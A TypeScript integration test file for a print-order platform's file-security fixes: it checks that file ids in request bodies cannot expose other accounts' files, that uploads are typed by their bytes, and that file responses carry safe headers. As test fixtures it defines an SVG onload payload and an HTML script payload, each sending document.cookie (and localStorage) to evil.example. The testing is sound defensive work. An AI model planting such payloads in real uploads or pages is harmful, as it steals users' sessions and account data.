/**
 * Integration (SECURITY.md findings 1, 2 and the profile-photo part of 7):
 * - a file id in a body must name a file the caller may read already — the
 *   print-order attach trick (attach someone's file id, then read it through
 *   the print-task rule) fails for every account that may work on the order,
 *   and the file stays unreadable to them; a missing id answers the same;
 * - uploads are typed by their bytes: SVG with `onload=`, HTML (whatever it
 *   is labelled) → 422 with nothing stored; a profile photo must be a raster
 *   image; the stored MIME type is the detected one;
 * - file answers: type from the bytes (old rows keep the client's claim in
 *   `mime`, which is ignored), inline only for JPEG/PNG/WebP, attachment
 *   otherwise, nosniff and a sandboxing CSP on every one.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { count, eq } from 'drizzle-orm';
import {
  art,
  catalogueLists,
  fieldWork,
  files as filesContract,
  inventory as inv,
  printWork,
  session,
} from '#src/api/contract/index.ts';
import type { UnitInput } from '#src/api/contract/inventory.ts';
import { failure, startTestServer, type TestServer } from '../test-support.ts';
import { files, printWorkOrderTasks, units } from '../db/schema.ts';
import { pngFile, tinyJpeg, tinyPdf, tinyPng } from './sample-files.ts';

let s: TestServer;
let tokens: Record<string, string>;
let ids: Record<string, number>;

beforeAll(async () => {
  s = await startTestServer();
  ({ tokens, ids } = await s.loginAll());
});
afterAll(async () => {
  await s.close();
});

const text = (body: string) => new TextEncoder().encode(body);
const SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'//evil.example/\'+document.cookie)"><rect width="9" height="9"/></svg>';
const HTML =
  '<!doctype html><html><body><script>fetch("//evil.example/?" + document.cookie + localStorage.accounts)</script></body></html>';

/** A GET with the bearer token, answered as it leaves the app (headers and all). */
const raw = (path: string, token: string) =>
  s.app.request(`/api${path}`, { headers: { authorization: `Bearer ${token}` } });
const fileCount = async () => (await s.db.select({ n: count() }).from(files))[0]!.n;

/** Headers every file answer carries. */
function expectSafeFileHeaders(res: Response): void {
  expect(res.headers.get('x-content-type-options')).toBe('nosniff');
  expect(res.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
  expect(res.headers.get('content-disposition')).toMatch(/^(inline|attachment); filename="[^"]*"; filename\*=UTF-8''/);
}

/** An open print work order `token` may work on (the list shows only those). */
async function openOrderFor(token: string): Promise<{ id: number; unitId: number }> {
  const list = await s.client(token).call(catalogueLists.printWorkOrders, { query: { per_page: 500 } });
  const order = list.data.find((o) => o.status !== 'finished' && o.tasks.length > 0);
  if (!order) throw new Error('the seed has no open print work order for this account');
  return { id: order.id, unitId: order.tasks[0]!.unit_id };
}

describe('file ids in bodies', () => {
  it('the print-order attach trick fails for every account that may work on an order, and the file stays unreadable to them', async () => {
    // the victim: a client's private upload, and a seeded artwork file of the demo client's campaigns
    const privateUpload = (
      await s
        .client(tokens.client)
        .call(filesContract.uploadFile, { body: { file: pngFile('contrato-privado.png', 3) } })
    ).data.id;
    const [artwork] = await s.db
      .select({ id: files.id })
      .from(files)
      .where(eq(files.ownerId, ids.client!))
      .orderBy(files.id)
      .limit(1);
    const victims = [privateUpload, artwork!.id];

    const attempts: { who: string; file: number; attach: number; read: number }[] = [];
    for (const who of ['technician', 'operations']) {
      const token = tokens[who]!;
      const order = await openOrderFor(token);
      for (const file of victims) {
        expect((await raw(`/files/get/${file}`, token)).status).toBe(404); // not theirs to begin with
        const attach = await s
          .client(token, 'en')
          .call(printWork.attachFile, { params: { id: order.id, unitId: order.unitId }, body: { file } })
          .then(
            () => 200,
            (e: { status: number; errors?: Record<string, string[]> }) => {
              expect(e.errors?.file?.[0]).toBe('The file does not exist or you have no access to it.');
              return e.status;
            },
          );
        attempts.push({ who, file, attach, read: (await raw(`/files/get/${file}`, token)).status });
      }
    }
    const reads = attempts.filter((a) => a.read === 200);
    expect({ crossAccountReads: reads.length, of: attempts.length, attempts }).toMatchObject({ crossAccountReads: 0 });
    expect(attempts.every((a) => a.attach === 422)).toBe(true);

    // an id that does not exist answers exactly the same (ids cannot be probed)
    const order = await openOrderFor(tokens.technician!);
    const missing = await failure(
      s
        .client(tokens.technician, 'en')
        .call(printWork.attachFile, { params: { id: order.id, unitId: order.unitId }, body: { file: 999_999 } }),
    );
    expect(missing).toMatchObject({
      status: 422,
      errors: { file: ['The file does not exist or you have no access to it.'] },
    });
  });

  it("a file the caller may read still attaches by id, and the order's staff then read it", async () => {
    const order = await openOrderFor(tokens.technician!);
    const own = (
      await s
        .client(tokens.technician)
        .call(filesContract.uploadFile, { body: { file: new File([tinyPdf('arte final')], 'arte.pdf') } })
    ).data.id;
    const answer = await s
      .client(tokens.technician)
      .call(printWork.attachFile, { params: { id: order.id, unitId: order.unitId }, body: { file: own } });
    expect(answer.data.tasks.find((t) => t.unit_id === order.unitId)!.file_ids).toContain(own);
    expect((await raw(`/files/get/${own}`, tokens.operations!)).status).toBe(200);
  });

  it('task arts: staff cannot associate a file they may not read', async () => {
    const privateUpload = (
      await s.client(tokens.client).call(filesContract.uploadFile, { body: { file: pngFile('boceto.png', 4) } })
    ).data.id;
    const list = await s.client(tokens.operations).call(catalogueLists.printWorkOrders, { query: { per_page: 50 } });
    const [task] = await s.db
      .select({ id: printWorkOrderTasks.id })
      .from(printWorkOrderTasks)
      .where(eq(printWorkOrderTasks.printWorkOrderId, list.data[0]!.id))
      .limit(1);
    const e = await failure(
      s
        .client(tokens.operations)
        .call(printWork.associateArts, { params: { id: task!.id }, body: { file_ids: [privateUpload] } }),
    );
    expect(e.status).toBe(422);
    expect(e.errors).toHaveProperty('file_ids');
  });

  it('unit images must be raster images: a PDF is refused under image_ids', async () => {
    const [u] = await s.db.select().from(units).where(eq(units.providerId, 1)).limit(1);
    const body = {
      title: 'Valla con imagen',
      media_type_id: u!.mediaTypeId,
      address: 'Av. Reforma 1',
      lat: u!.lat,
      lng: u!.lng,
      country_id: u!.countryId,
      state_id: u!.stateId,
      city_id: u!.cityId,
      side: 'A',
      direction: 'N',
      traffic_direction: 'ambos',
      daily_traffic: 1000,
      schedule: '24h',
      price: 1500,
      print_price: 400,
      min_price: 1200,
      min_print_price: 300,
    } as UnitInput;
    const provider = s.client(tokens.provider, 'en');
    const pdf = (await provider.call(filesContract.uploadFile, { body: { file: new File([tinyPdf()], 'ficha.pdf') } }))
      .data.id;
    const e = await failure(provider.call(inv.storeUnit, { body: { ...body, image_ids: [pdf] } }));
    expect(e).toMatchObject({ status: 422 });
    expect(e.errors?.image_ids?.[0]).toMatch(/must be an image/);
    const png = (await provider.call(filesContract.uploadFile, { body: { file: pngFile('valla.png', 5) } })).data.id;
    const unit = (await provider.call(inv.storeUnit, { body: { ...body, image_ids: [png] } })).data;
    expect(unit.images.map((i) => i.id)).toEqual([png]);
    const shared = await raw(`/files/get/${png}`, tokens.client!);
    expect(shared.status).toBe(200);
    expect(shared.headers.get('content-type')).toBe('image/png');
  });
});

describe('uploads are typed by their bytes', () => {
  it('refuses SVG with onload= and HTML through /files/upload with 422 on `file`, storing nothing', async () => {
    const before = await fileCount();
    const cases = [
      new File([text(SVG)], 'logo.svg', { type: 'image/svg+xml' }),
      new File([text(`<?xml version="1.0"?>${SVG}`)], 'logo.svg', { type: 'image/svg+xml' }),
      new File([text(HTML)], 'pagina.html', { type: 'text/html' }),
      new File([text(HTML)], 'foto.png', { type: 'image/png' }),
      new File([text('title,address\nA,B\n')], 'unidades.csv', { type: 'text/csv' }),
    ];
    for (const file of cases) {
      const e = await failure(s.client(tokens.client, 'en').call(filesContract.uploadFile, { body: { file } }));
      expect(e).toMatchObject({ status: 422, type: 'validation' });
      expect(e.errors?.file?.[0]).toMatch(/^This type of file is not accepted here\. Accepted formats: JPEG, PNG/);
    }
    const es = await failure(
      s.client(tokens.client, 'es').call(filesContract.uploadFile, { body: { file: cases[2]! } }),
    );
    expect(es.errors?.file?.[0]).toMatch(/^Este tipo de archivo no se acepta aquí/);
    expect(await fileCount()).toBe(before);
  });

  it('the art manager, colour proofs and print files refuse HTML too', async () => {
    const html = new File([text(HTML)], 'arte.png', { type: 'image/png' });
    expect(
      (await failure(s.client(tokens.client).call(art.uploadArt, { body: { file: html } }))).errors,
    ).toHaveProperty('file');
    const campaigns = await s.client(tokens.provider).call(art.providerArtCampaigns, { query: {} });
    expect(
      (
        await failure(
          s
            .client(tokens.provider)
            .call(art.uploadProof, { params: { id: campaigns.data[0]!.id }, body: { file: html } }),
        )
      ).errors,
    ).toHaveProperty('file');
    const order = await openOrderFor(tokens.operations!);
    expect(
      (
        await failure(
          s
            .client(tokens.operations)
            .call(printWork.attachFile, { params: { id: order.id, unitId: order.unitId }, body: { file: html } }),
        )
      ).errors,
    ).toHaveProperty('file');
  });

  it('a profile photo must be a raster image: HTML bytes labelled image/jpeg, or an SVG, → 422 on `photo`; the photo is unchanged', async () => {
    const me = s.client(tokens.seller, 'en');
    const before = (await me.call(session.currentUser)).data.file;
    for (const photo of [
      new File([text(HTML)], 'yo.jpg', { type: 'image/jpeg' }),
      new File([text(SVG)], 'yo.svg', { type: 'image/svg+xml' }),
      new File([tinyPdf()], 'yo.pdf', { type: 'image/jpeg' }),
    ]) {
      const e = await failure(me.call(session.updatePhoto, { body: { photo } }));
      expect(e).toMatchObject({ status: 422 });
      expect(e.errors?.photo?.[0]).toBe('The file must be an image (JPEG, PNG, WebP, GIF).');
    }
    expect((await me.call(session.currentUser)).data.file).toEqual(before);
  });

  it("stores the detected type, not the client's claim, and serves a real JPEG or PNG inline with that type", async () => {
    const jpeg = await s
      .client(tokens.seller)
      .call(session.updatePhoto, { body: { photo: new File([await tinyJpeg()], 'yo.png', { type: 'image/png' }) } });
    const photoId = jpeg.data.file!.id;
    expect((await s.db.select({ mime: files.mime }).from(files).where(eq(files.id, photoId)))[0]!.mime).toBe(
      'image/jpeg',
    );
    const res = await raw(`/files/get/${photoId}`, tokens.client!); // shared: anyone signed in
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('image/jpeg');
    expect(res.headers.get('content-disposition')).toMatch(/^inline;/);
    expectSafeFileHeaders(res);

    const png = (
      await s.client(tokens.client).call(filesContract.uploadFile, {
        body: { file: new File([tinyPng(7)], 'arte.png', { type: 'application/octet-stream' }) },
      })
    ).data;
    expect(png.mime).toBe('image/png');
    const served = await raw(`/files/get/${png.id}`, tokens.client!);
    expect(served.headers.get('content-type')).toBe('image/png');
    expect(served.headers.get('content-disposition')).toBe('inline; filename="arte.png"; filename*=UTF-8\'\'arte.png');
    expect(new Uint8Array(await served.arrayBuffer())).toEqual(tinyPng(7));
  });

  it('serves a PDF as an attachment', async () => {
    const pdf = (
      await s.client(tokens.client).call(filesContract.uploadFile, {
        body: { file: new File([tinyPdf()], 'cotización final.pdf', { type: 'application/pdf' }) },
      })
    ).data;
    const res = await raw(`/files/get/${pdf.id}`, tokens.client!);
    expect(res.headers.get('content-type')).toBe('application/pdf');
    expect(res.headers.get('content-disposition')).toBe(
      'attachment; filename="cotizaci_n final.pdf"; filename*=UTF-8\'\'cotizaci%C3%B3n%20final.pdf',
    );
    expectSafeFileHeaders(res);
  });
});

describe('rows stored before typing by bytes', () => {
  it('are served by their bytes, never as the text/html or image/svg+xml they claim, and as attachments', async () => {
    const now = new Date();
    const [html, svg, disguised] = await s.db
      .insert(files)
      .values([
        {
          ownerId: ids.client!,
          name: 'pagina.html',
          mime: 'text/html',
          size: HTML.length,
          shared: false,
          data: text(HTML),
          createdAt: now,
        },
        {
          ownerId: ids.client!,
          name: 'logo.svg',
          mime: 'image/svg+xml',
          size: SVG.length,
          shared: true,
          data: text(SVG),
          createdAt: now,
        },
        {
          ownerId: ids.client!,
          name: 'foto.png',
          mime: 'image/png',
          size: HTML.length,
          shared: true,
          data: text(HTML),
          createdAt: now,
        },
      ])
      .returning({ id: files.id });
    for (const [row, name] of [
      [html!, 'pagina.html.bin'],
      [svg!, 'logo.svg.bin'],
      [disguised!, 'foto.png.bin'],
    ] as const) {
      const res = await raw(`/files/get/${row.id}`, tokens.client!);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('application/octet-stream');
      expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${name}"; filename*=UTF-8''${name}`);
      expectSafeFileHeaders(res);
    }
  });
});

describe('every file answer', () => {
  it("art images, the provider's zip and the photo report carry nosniff and the sandboxing CSP too", async () => {
    const up = (await s.client(tokens.client).call(art.uploadArt, { body: { file: pngFile('arte.png', 8) } })).data;
    const image = await raw(`/client/art_manager/images/${up.id}`, tokens.client!);
    expect(image.status).toBe(200);
    expect(image.headers.get('content-type')).toBe('image/png');
    expectSafeFileHeaders(image);

    const campaigns = await s.client(tokens.provider).call(art.providerArtCampaigns, { query: {} });
    const zip = await raw(art.providerZip.path.replace('{id}', String(campaigns.data[0]!.id)), tokens.provider!);
    expect(zip.status).toBe(200);
    expect(zip.headers.get('content-type')).toBe('application/zip');
    expect(zip.headers.get('content-disposition')).toMatch(/^attachment;/);
    expectSafeFileHeaders(zip);

    const jobs = await s.client(tokens.operations).call(catalogueLists.orderJobs, { body: { per_page: 1 } });
    const report = await raw(fieldWork.photoReport.path.replace('{id}', String(jobs.data[0]!.id)), tokens.operations!);
    expect(report.status).toBe(200);
    expect(report.headers.get('content-type')).toBe('application/pdf');
    expect(report.headers.get('content-disposition')).toMatch(/^attachment;/);
    expectSafeFileHeaders(report);
  });
});
